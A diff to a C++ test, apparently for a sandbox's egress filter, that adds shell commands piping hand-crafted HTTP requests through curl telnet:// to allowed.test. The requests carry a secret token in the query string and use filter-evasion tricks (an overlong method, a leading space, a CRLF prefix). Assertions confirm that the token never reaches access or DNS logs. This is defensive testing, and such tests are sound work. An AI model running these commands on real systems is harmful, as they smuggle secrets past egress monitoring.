@@ -355,6 +355,14 @@ void checkCredentials(Net& n) {
       // plain HTTP that a lenient server accepts (a leading empty line)
       "printf '\\r\\nGET /echo?via=exfil-crlf&t=%s HTTP/1.1\\r\\nHost: allowed.test\\r\\nConnection: close\\r\\n\\r\\n' "
       "\"$TEST_TOKEN\" | curl --noproxy '*' -sS --max-time 5 telnet://allowed.test:$H; "
+      // a method longer than the classifier once looked at, and a leading
+      // space: nginx logs the first
+      "printf 'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA /echo?via=exfil-method&t=%s HTTP/1.1\\r\\n"
+      "Host: allowed.test\\r\\nConnection: close\\r\\n\\r\\n' \"$TEST_TOKEN\" | "
+      "curl --noproxy '*' -sS --max-time 5 telnet://allowed.test:$H; "
+      "printf ' GET /echo?via=exfil-space&t=%s HTTP/1.1\\r\\nHost: allowed.test\\r\\n"
+      "Connection: close\\r\\n\\r\\n' \"$TEST_TOKEN\" | "
+      "curl --noproxy '*' -sS --max-time 5 telnet://allowed.test:$H; "
       "getent hosts \"$(printf %s \"$TEST_TOKEN\" | cut -c1-40).other.test\"; "
       // The placeholder as a label of a name a wildcard rule allows, through
       // the explicit proxy: CONNECT, and an absolute URL.
@@ -381,6 +389,9 @@ void checkCredentials(Net& n) {
     CHECK_FALSE(has(other, via));
   }
   CHECK_FALSE(has(n.net.accessLog("allowed.test"), "exfil-crlf"));
+  CHECK_FALSE(has(n.net.accessLog("allowed.test"), "exfil-method"));
+  CHECK_FALSE(has(n.net.accessLog("allowed.test"), "exfil-space"));
+  CHECK_FALSE(has(n.net.accessLog("allowed.test"), "guard-token"));
   CHECK_FALSE(has(n.net.dnsLog(), "guard-token"));
   CHECK_FALSE(has(n.net.dnsLog(), "wild.test"));  // nothing was resolved for those names
   auto exfil = n.events("exfiltration");
